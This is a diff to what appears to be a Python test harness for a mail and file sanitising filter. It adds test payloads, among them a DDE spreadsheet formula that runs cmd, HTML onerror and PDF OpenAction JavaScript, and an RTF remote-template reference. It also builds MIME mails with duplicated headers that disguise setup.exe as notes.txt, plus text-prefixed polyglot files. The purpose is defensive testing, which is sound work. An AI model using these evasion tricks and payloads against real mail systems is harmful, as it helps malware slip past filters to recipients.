@@ -19,12 +19,16 @@ DESCRIPTION
              or attachment is opened by its name),
       formula a spreadsheet formula line (DDE) of a CSV,
       iqy    an Excel web query (fetches and opens a URL),
-      rtf_template  an RTF remote template reference.
+      rtf_template  an RTF remote template reference,
+      pdf_js an OpenAction JavaScript of a PDF,
+      onerror an HTML event handler (markup libmagic does not call HTML).
     Expectations (comma separated, all must hold; "payload absent" and "no
     crash" always apply):
       undelivered        exit 2 or 3 (nothing forwarded)
       verdict=A|B        report verdict is one of these
       code=A|B           some node carries one of these finding codes
+      not_original       what is forwarded (if anything) is not the input
+      rebuilt            something is forwarded and it is a rebuilt mail
     Nothing hostile is stored in the repository: the payloads come from the
     system's clamav-testfiles and are wrapped here.
 """
@@ -39,8 +43,11 @@ SCRIPT = b"<script>alert(document.domain)</script>"
 FORMULA = b"\n=cmd|'/C calc'!A0\n"
 IQY = b"WEB\r\n1\r\nhttp://198.51.100.7/q.html\r\n"
 RTF_TEMPLATE = b"{\\*\\template http://198.51.100.7/t.dotm}"
+PDF_JS = b"/S/JavaScript/JS(app.alert(document.domain))"
+ONERROR = b'<img src=x onerror="alert(document.domain)">'   # no "<script"
 PAYLOADS = {"clam": clam, "pe": pe, "eicar": EICAR, "script": SCRIPT,
-            "formula": FORMULA, "iqy": IQY, "rtf_template": RTF_TEMPLATE}
+            "formula": FORMULA, "iqy": IQY, "rtf_template": RTF_TEMPLATE,
+            "pdf_js": PDF_JS, "onerror": ONERROR}
 # File cases are named NAME.bin unless listed here (the name is what a
 # recipient's browser or viewer goes by).
 FILE_EXT = {"padded_html_file": "html", "late_svg_file": "svg",
@@ -178,6 +185,90 @@ def mht_doc(p):
             b"Content-Location: editdata.mso\r\nContent-Type: application/x-mso\r\n"
             b"Content-Transfer-Encoding: base64\r\n\r\n" +
             base64.encodebytes(b"ActiveMime\0\0" + b"\0" * 64) + b"--R--\r\n")
+
+
+def ambiguous(p, top=None, part=None, extra=()):
+    """A mail whose MIME headers two readers read differently (issue 13,
+    item 8): TOP replaces the top Content-Type, PART the attachment's
+    headers (the payload goes base64 under them), EXTRA are more top
+    lines."""
+    part = part or ['Content-Type: application/octet-stream; name="data.bin"',
+                    'Content-Disposition: attachment; filename="data.bin"']
+    return mail("ambiguous", list(extra) + attach(p, part, ctype_top=top))
+
+
+def two_boundaries(p):
+    """boundary given twice: the first wins for some readers (a text body
+    only), the last for others (an executable)."""
+    return mail("two boundaries", ['Content-Type: multipart/mixed; boundary="AAA"; boundary="BBB"',
+        "", "--AAA", "Content-Type: text/plain", "", "nothing here", "--AAA--",
+        "--BBB", "Content-Type: text/plain", "", "see attached", "--BBB",
+        'Content-Type: application/octet-stream; name="setup.exe"',
+        "Content-Transfer-Encoding: base64", ""] + b64(p) + ["--BBB--"])
+
+
+def two_top_types(p):
+    """Content-Type given twice at the top: text/plain or multipart."""
+    return mail("two types", ["Content-Type: text/plain; charset=us-ascii"] +
+                attach(p, ['Content-Type: application/octet-stream; name="setup.exe"']))
+
+
+# one row per class of ambiguous MIME, each in the mail and the file
+# channel (a .eml dropped as a file)
+AMBIGUOUS = [
+    ("boundary_twice", two_boundaries),
+    ("boundary_junk_after_quote", lambda p: ambiguous(p,
+        top=f'Content-Type: multipart/mixed; boundary="{B}"x')),
+    ("top_content_type_twice", two_top_types),
+    ("charset_twice", lambda p: ambiguous(p, part=[
+        'Content-Type: text/html; charset=us-ascii; charset=utf-7; name="a.html"'])),
+    ("filename_twice", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
+        'Content-Disposition: attachment; filename="notes.txt"; filename="setup.exe"'])),
+    ("name_twice", lambda p: ambiguous(p, part=[
+        'Content-Type: application/octet-stream; name="notes.txt"; name="setup.exe"'])),
+    ("rfc2231_vs_plain", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
+        "Content-Disposition: attachment; filename=\"notes.txt\"; filename*=UTF-8''setup.exe"])),
+    ("continuation_vs_plain", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
+        'Content-Disposition: attachment; filename*0="notes"; filename*1=".txt"; filename="setup.exe"'])),
+    ("continuation_twice", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
+        'Content-Disposition: attachment; filename*0="notes"; filename*0="setup"; filename*1=".exe"'])),
+    ("name_vs_filename", lambda p: ambiguous(p, part=[
+        'Content-Type: application/octet-stream; name="notes.txt"',
+        'Content-Disposition: attachment; filename="setup.exe"'])),
+    ("transfer_encoding_twice", lambda p: ambiguous(p, part=[
+        'Content-Type: application/octet-stream; name="data.bin"',
+        "Content-Transfer-Encoding: 7bit"])),
+    ("disposition_twice", lambda p: ambiguous(p, part=['Content-Type: application/octet-stream',
+        'Content-Disposition: inline; filename="note.txt"',
+        'Content-Disposition: attachment; filename="setup.exe"'])),
+]
+
+
+def pdf_js(p):
+    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<<" + p +
+            b">>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
+            b"trailer<</Root 1 0 R>>\n%%EOF\n")
+
+
+def stored_zip(members):
+    return zip_bytes(members, zipfile.ZIP_STORED)
+
+
+# bytes libmagic calls text that a lenient reader opens as something else
+# (issue 13, item 10), each as a file and as a text/plain attachment
+POLYGLOTS = [
+    ("pdf_after_text", "pdf_js", lambda p: b"Dear customer,\n" * 20 + pdf_js(p)),
+    ("html_after_blank_lines", "onerror", lambda p: b"\r\n\r\n   <iframe src=x></iframe>" + p),
+    ("html_body_tag", "onerror", lambda p: b"<body onload=x>" + p + b"</body>"),
+    ("html_div", "onerror", lambda p: b"<div>" + p + b"</div>"),
+    ("html_within_256", "onerror", lambda p: b"Please read this first.\n<iframe src=x></iframe>" +
+        p + b"\n" + b"word " * 100),
+    ("svg_after_blanks", "onerror", lambda p: b"  \n<svg onload=\"alert(1)\">" + p + b"</svg>"),
+    ("zip_after_text", "pe", lambda p: b"Meeting notes follow.\n" * 100 +
+        stored_zip([("setup.exe", p)])),
+    ("rtf_after_text", "rtf_template", lambda p: b"Minutes of the meeting\n" +
+        b"{\\rtf1\\ansi" + p + b" hello}"),
+]
 
 
 def size_bomb(p):
@@ -348,6 +439,32 @@ CASES = [
     ("iqy_attachment", "iqy", "mail", "code=executable",
      lambda p: mail("web query", simple(p, "report.iqy", "text/plain"))),
 ]
+
+
+for _n, _build in AMBIGUOUS:
+    CASES.append(("ambiguous_" + _n, "pe", "mail",
+                  "code=ambiguous_mime,verdict=stripped|quarantined", _build))
+    CASES.append(("ambiguous_" + _n + "_file", "pe", "file",
+                  "code=ambiguous_mime,verdict=stripped|quarantined,not_original", _build))
+    FILE_EXT["ambiguous_" + _n + "_file"] = "eml"
+# a mail file is rebuilt even when nothing in it is changed
+CASES.append(("mail_file_clean_rebuilt", "pe", "file", "verdict=pass,rebuilt",
+              lambda p: mail("clean", ["Content-Type: text/plain; charset=us-ascii", "",
+                                       "nothing to see"]).replace(b"\r\n", b"\n")))
+FILE_EXT["mail_file_clean_rebuilt"] = "eml"
+for _n, _pl, _build in POLYGLOTS:
+    CASES.append(("polyglot_" + _n + "_file", _pl, "file",
+                  "verdict=cleaned|stripped|quarantined|rejected,not_original", _build))
+    FILE_EXT["polyglot_" + _n + "_file"] = "txt"
+    CASES.append(("polyglot_" + _n + "_bin_file", _pl, "file",
+                  "verdict=cleaned|stripped|quarantined|rejected,not_original", _build))
+    CASES.append(("polyglot_" + _n, _pl, "mail", "verdict=cleaned|stripped|quarantined|rejected",
+                  lambda p, b=_build: mail("polyglot", simple(b(p), "notes.txt", "text/plain"))))
+# a PDF behind junk, named .pdf: rebuilt (or held), never passed
+CASES.append(("polyglot_pdf_named_pdf_file", "pdf_js", "file",
+              "verdict=cleaned|stripped|quarantined,not_original",
+              lambda p: b"\x00\x01junk\n" * 8 + pdf_js(p)))
+FILE_EXT["polyglot_pdf_named_pdf_file"] = "pdf"
 
 
 def main():
